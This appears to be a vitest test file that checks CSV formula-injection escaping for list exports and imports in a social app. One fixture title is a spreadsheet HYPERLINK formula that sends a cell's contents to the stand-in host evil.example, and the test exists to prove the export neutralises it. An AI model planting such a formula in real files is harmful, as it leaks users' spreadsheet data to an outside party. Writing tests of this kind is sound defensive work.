// CSV exports escape cells a spreadsheet would read as a formula (outside review F7, OWASP "CSV Injection"): a cell
// starting with =, +, -, @, tab or CR is written with a leading single quote and quoted; the import strips that quote
// again, so a list titled `=SUM(A1)` or `-news` comes back under its own title.
import { beforeEach, describe, expect, it } from "vitest";
import { csvLine } from "../../src/services/data/export-csv";
import { parseCsv, parseImport } from "../../src/services/data/import-csv";
import { csv } from "./export-fixtures";
import { eventually, makeUser, type TestUser } from "./helpers";
import { installQueueCapture } from "./queues";

beforeEach(() => installQueueCapture());

const TITLES = [
  "=SUM(A1)",
  "-news",
  "+1 friends",
  "@home",
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  "'=already quoted",
  "''-twice",
  "'plain quote",
  "plain, with comma",
  "a=b",
];
/** Each title as the export must write it. */
const WRITTEN: Record<string, string> = {
  "=SUM(A1)": `"'=SUM(A1)"`,
  "-news": `"'-news"`,
  "+1 friends": `"'+1 friends"`,
  "@home": `"'@home"`,
  '=HYPERLINK("https://evil.example/?x="&A1,"click")': `"'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")"`,
  "'=already quoted": `"''=already quoted"`,
  "''-twice": `"'''-twice"`,
  "'plain quote": "'plain quote",
  "plain, with comma": `"plain, with comma"`,
  "a=b": "a=b",
};

async function upload(u: TestUser, type: string, data: string) {
  const form = new FormData();
  form.append("type", type);
  form.append("mode", "merge");
  form.append("data", new File([data], "lists.csv", { type: "text/csv" }));
  return u.api.post("/api/tern/imports", form, "multipart");
}

describe("CSV formula escaping (F7)", () => {
  it("writes a leading quote before =, +, -, @, tab and CR, and quotes the cell", () => {
    expect(csvLine(["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok", "", null, true])).toBe(`"'=1+1","'+1","'-1","'@SUM(A1)","'\tx","'\rx",ok,,,true\n`);
    expect(csvLine(["'=x", "''+x", "'x", "x=1", "1-2"])).toBe(`"''=x","'''+x",'x,x=1,1-2\n`);
    // Every cell of every kind, the header's too, goes through csvLine: what it writes is read back as it was.
    const cells = ["=1+1", "+1", "-1", "@a", "\tx", "\rx", "'=x", "''@x", "'x", "plain", 'q"uote', "a,b", "line\nbreak"];
    expect(parseCsv(csvLine(cells))[0]).toHaveLength(cells.length);
    const rows = parseImport(new TextEncoder().encode(cells.map((c) => csvLine([c, "a@b.example"])).join("")), "lists", "tern.test");
    expect(rows.map((r) => r.data.list_name)).toEqual(cells.map((c) => c.trim()));
  });

  it("exports list titles that look like formulas escaped, and imports them back under their own titles", async () => {
    const a = await makeUser();
    const b = await makeUser();
    expect((await a.api.post(`/api/v1/accounts/${b.id}/follow`)).status).toBe(200); // list members are followed accounts
    for (const title of TITLES) {
      const list = await a.api.post("/api/v1/lists", { title });
      expect(list.status, title).toBe(200);
      expect((await a.api.post(`/api/v1/lists/${list.body.id}/accounts`, { account_ids: [b.id] })).status).toBe(200);
    }
    const exported = (await csv(a, "lists")).text;
    const lines = exported.split("\n").filter(Boolean).sort();
    expect(lines).toEqual(TITLES.map((t) => `${WRITTEN[t]},${b.username}@tern.test`).sort());
    // No line starts a cell with a formula character outside quotes.
    for (const line of lines) expect(line, line).not.toMatch(/^[=+\-@\t\r]|,[=+\-@\t\r]/);

    const f = await makeUser();
    const res = await upload(f, "lists", exported);
    expect(res.status, JSON.stringify(res.body)).toBe(202);
    await eventually(async () => {
      const r = await f.api.get(`/api/tern/imports/${res.body.id}`);
      expect(r.body).toMatchObject({ state: "finished", failed_items: 0 });
    });
    const titles = (await f.api.get("/api/v1/lists")).body.map((l: { title: string }) => l.title);
    expect([...titles].sort()).toEqual([...TITLES].sort());
    expect((await csv(f, "lists")).text.split("\n").filter(Boolean).sort()).toEqual(lines);
  });
});
